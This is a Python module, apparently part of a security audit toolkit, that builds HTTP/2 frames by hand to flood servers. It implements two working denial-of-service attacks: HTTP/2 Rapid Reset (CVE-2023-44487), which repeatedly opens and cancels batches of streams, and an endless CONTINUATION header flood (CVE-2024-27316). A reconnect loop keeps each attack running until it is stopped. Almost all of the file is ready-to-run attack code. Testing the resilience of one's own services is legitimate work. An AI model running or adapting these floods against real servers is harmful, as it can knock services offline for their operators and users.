"""Floods over HTTP/2, frame by frame (RFC 9113); header blocks use no table (RFC 7541)."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Callable

from audit.attacks.door import PATIENCE, Door

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
ACK = END_STREAM = 1
END_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")
BATCH = 100
# Entries of HPACK's static table.
GET, POST, HTTPS = b"\x82", b"\x83", b"\x87"
AUTHORITY, PATH = 1, 4

Step = Callable[[socket.socket, int], None]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def literal(name: int | bytes, value: bytes) -> bytes:
    """A header field; ``name`` may be an entry of the static table. Each is below 127 bytes."""
    named = bytes([name]) if isinstance(name, int) else bytes([0, len(name)]) + name
    return named + bytes([len(value)]) + value


def block(host: str, path: str, method: bytes = GET) -> bytes:
    """The header block of a request over https."""
    return method + HTTPS + literal(AUTHORITY, host.encode()) + literal(PATH, path.encode())


def greet(connection: socket.socket) -> None:
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))


def resets(first: int, request: bytes) -> bytes:
    """Streams, from an odd number on, that are opened and taken back at once."""
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, request)
        + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(first, first + 2 * BATCH, 2)
    )


def more_headers() -> bytes:
    """16 KiB of a header block that goes on."""
    return frame(CONTINUATION, 0, 1, literal(b"x", b"a" * 124) * 128)


def rapid_reset(door: Door) -> None:
    """Requests that are cancelled as they are sent (CVE-2023-44487)."""
    request = block(door.host, "/v1/models")

    def reset(connection: socket.socket, count: int) -> None:
        connection.sendall(resets(1 + 2 * BATCH * count, request))
        door.count("streams", BATCH)

    _repeat(door, reset)


def continuation(door: Door) -> None:
    """Header blocks that never end (CVE-2024-27316 and its like)."""

    def go_on(connection: socket.socket, count: int) -> None:
        if not count:
            connection.sendall(frame(HEADERS, END_STREAM, 1, block(door.host, "/v1/models")))
        connection.sendall(more_headers())
        door.count("frames")

    _repeat(door, go_on)


def _repeat(door: Door, step: Step) -> None:
    """Do a step again and again, on a new connection when the other side hangs up."""
    while door.open:
        try:
            with door.connect("h2") as connection:
                greet(connection)
                count = 0
                while door.open and drained(connection):
                    step(connection, count)
                    count += 1
        except OSError as error:
            door.count(type(error).__name__)


def drained(connection: socket.socket) -> bool:
    """Take in what has come, so that nobody waits for us; False when there is the end."""
    connection.settimeout(0)
    try:
        while connection.recv(65536):
            pass
    except ssl.SSLWantReadError:
        return True
    finally:
        connection.settimeout(PATIENCE)
    return False
